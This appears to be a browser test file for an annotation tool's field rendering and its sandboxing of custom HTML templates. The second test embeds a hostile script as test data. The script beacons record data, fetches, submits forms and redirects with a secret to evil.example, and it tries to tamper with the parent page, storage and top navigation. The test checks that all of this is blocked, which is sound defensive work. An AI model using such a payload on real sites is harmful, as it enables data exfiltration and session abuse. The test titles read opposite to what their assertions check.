/** Images, conversations and custom fields are shown; hostile ones neither run in the page, nor call home, nor leave. */
import { annotatePage } from "./lib/annotate-page.ts"
import { createCampaign, textQuestion } from "./lib/campaigns.ts"
import { createTeam, type Person } from "./lib/people.ts"
import { expectAccessible } from "./lib/readable.ts"
import { expect, test } from "./lib/test.ts"

const home = "http://evil.example"
const pixel =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
const image = { name: "picture", title: "Picture", required: false, settings: { type: "image" } } as const
const chat = {
  name: "thread",
  title: "Thread",
  required: false,
  settings: { type: "chat", use_markdown: true },
} as const
const custom = (template: string, advanced_mode = false) =>
  ({
    name: "card",
    title: "Card",
    required: true,
    settings: { type: "custom", template, advanced_mode },
  }) as const

test("an image, a conversation or a template with the record's values is not shown", async ({
  loam,
  visit,
}) => {
  const { workspace, labelers } = await createTeam(loam, ["reader"])
  const { dataset } = await createCampaign(loam.owner, workspace, {
    fields: [
      image,
      chat,
      custom("<ul>{{#each record.fields.card.items}}<li>{{this}}</li>{{/each}}</ul>{{record.external_id}}"),
    ],
    questions: [textQuestion()],
    records: [
      {
        fields: {
          picture: pixel,
          thread: [
            { role: "system", content: "Be brief." },
            { role: "user", content: "Hello **there**" },
            { role: "assistant", content: "Hi!" },
          ],
          card: { items: ["first <b>", "second"] },
        },
        external_id: "noted",
      },
      { fields: { picture: `${home}/remote.png`, card: { items: ["third"] } } },
    ],
  })
  const page = await visit(labelers[0] as Person)
  const annotate = annotatePage(page)
  await annotate.open(dataset.id)
  const { record } = annotate
  await expect(record.getByRole("img", { name: "Picture" })).toBeVisible()
  await expect(record.locator("strong")).toHaveText("there")
  await expect(record.getByText("assistant")).toBeVisible()
  const frame = record.frameLocator("iframe")
  await expect(frame.getByRole("listitem")).toHaveText(["first <b>", "second"])
  await expect(frame.getByText("noted")).toBeVisible()
  await expectAccessible(page, "fields", { except: "iframe" })
  await page.screenshot({ path: "../.cache/screenshots/fields-light-1440.png" })
  const requests: string[] = []
  page.on("request", (request) => requests.push(request.url()))
  await annotate.goingOn(() => page.keyboard.press("ArrowRight"))
  await expect(record.frameLocator("iframe").getByRole("listitem")).toHaveText(["third"])
  await expect(record.getByText("The image at evil.example is not shown.")).toBeVisible()
})

const attack = `
<div id="result">nothing ran</div>
<img src="${home}/pixel.png"><script src="${home}/s.js"></script>
<form action="${home}/form" id="f"><input name="a" value="b"></form>
<script>
  const tried = []
  const attempt = (name, act) => { try { act(); tried.push(name) } catch { } }
  attempt("parent document", () => parent.document.body.append("pwned"))
  attempt("cookie", () => { if (document.cookie) return; throw new Error() })
  attempt("storage", () => localStorage.setItem("pwned", "1"))
  attempt("top", () => { top.location.href = "${home}/top" })
  attempt("window", () => { if (!open("${home}/window")) throw new Error() })
  fetch("${home}/fetch").then(() => tried.push("fetch"), () => {})
  fetch("/api/v1/me", { credentials: "include" }).then(() => tried.push("api"), () => {})
  navigator.sendBeacon("${home}/beacon", JSON.stringify(record))
  document.getElementById("f").submit()
  setTimeout(() => { document.getElementById("result").textContent = "ran: " + record.fields.card.secret + " " + tried.join() }, 300)
  parent.postMessage({ kind: "height", height: 1e9 }, "*")
  setTimeout(() => { location.href = "${home}/leave?" + record.fields.card.secret }, 600)
</script>`

test("a custom field reaches the page, its session, the network, or takes the record elsewhere", async ({
  loam,
  visit,
}) => {
  const { workspace, labelers } = await createTeam(loam, ["target"])
  const { dataset } = await createCampaign(loam.owner, workspace, {
    fields: [custom(attack, true)],
    questions: [textQuestion()],
    records: [{ fields: { card: { secret: "s3cret" } } }],
  })
  const page = await visit(labelers[0] as Person)
  // What leaves the browser: a request that the policy stops has no answer and never reaches a network.
  const arrived: string[] = []
  await page.context().route(`${home}/**`, (route) => {
    arrived.push(route.request().url())
    return route.fulfill({ body: "gotcha" })
  })
  page.context().on("page", () => arrived.push("a window"))
  await annotatePage(page).open(dataset.id)
  const frame = page.frameLocator("iframe[title=Card]")
  await expect(frame.locator("#result")).toHaveText("ran: s3cret ")
  await page.waitForTimeout(1_000)
  expect(arrived).toEqual([])
  expect(page.url()).toContain(dataset.id)
  expect(await page.evaluate(() => localStorage.getItem("pwned"))).toBeNull()
  await expect(page.getByText("pwned")).toHaveCount(0)
})
